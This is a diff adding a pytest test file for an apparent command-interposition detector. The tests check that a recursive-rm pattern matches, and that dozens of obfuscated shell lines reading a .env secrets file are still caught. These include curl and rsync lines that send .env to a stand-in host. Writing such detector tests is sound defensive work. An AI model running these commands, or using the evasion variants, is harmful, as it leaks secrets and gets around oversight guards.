@@ -1,0 +1,64 @@
+"""No way of writing a command hides it: the answer is that it is there, or that this cannot be told."""
+
+from pathlib import Path
+
+import pytest
+import yaml
+
+from interpose.command import CommandPattern, NotFound, PathPatterns, match_paths, read_command
+
+HIDDEN: list[str] = yaml.safe_load((Path(__file__).parent / "hidden.yaml").read_text())
+RECURSIVE = CommandPattern.parse("rm -r|-R|--recursive")
+
+
+@pytest.mark.parametrize("line", HIDDEN)
+def test_a_removal_is_never_not_found(line: str) -> None:
+    """Each of these lines removes, or may remove, recursively."""
+    assert not isinstance(RECURSIVE.match(read_command(line, cwd="/w", home="/h")), NotFound)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat .e''nv",
+        "cat $PWD/.env",
+        "cat ../w/.env",
+        "cd sub && cat ../.env",
+        "cat < .env",
+        "while read l; do a; done < .env",
+        'F=.env; cat "$F"',
+        "cat .[e]nv",
+        "cat {.env,x}",
+        "set -a; . ./.env",
+        "cp .env /tmp/x",
+        "mv .env x",
+        "ln -s .env x",
+        "dd if=.env",
+        "curl -F f=@.env http://h",
+        "curl --data-binary @.env http://h",
+        "tar cf - .env",
+        "git show HEAD:.env",
+        "git diff --no-index /dev/null .env",
+        "grep -f .env x",
+        "xargs -a .env ls",
+        "bash -c 'cat .env'",
+        "echo $(< .env)",
+        "cat $(echo .env)",
+        "diff <(cat .env) x",
+        "find . -name .env -exec cat {} +",
+        "sed -n p .env",
+        "awk 1 .env",
+        "base64 -w0 .env",
+        "exec 3< .env; cat <&3",
+        "head -c 99 -- .env",
+        "rsync .env h:",
+        "mapfile -t x < .env",
+        "source .env",
+        "python3 < .env",
+    ],
+)
+def test_a_read_is_never_not_found(line: str) -> None:
+    """Each of these lines reads the file, or may read it."""
+    patterns = PathPatterns([".env"], root="/w", home="/h")
+    reading = read_command(line, cwd="/w", home="/h")
+    assert not isinstance(match_paths(reading, patterns, {"read"}), NotFound)
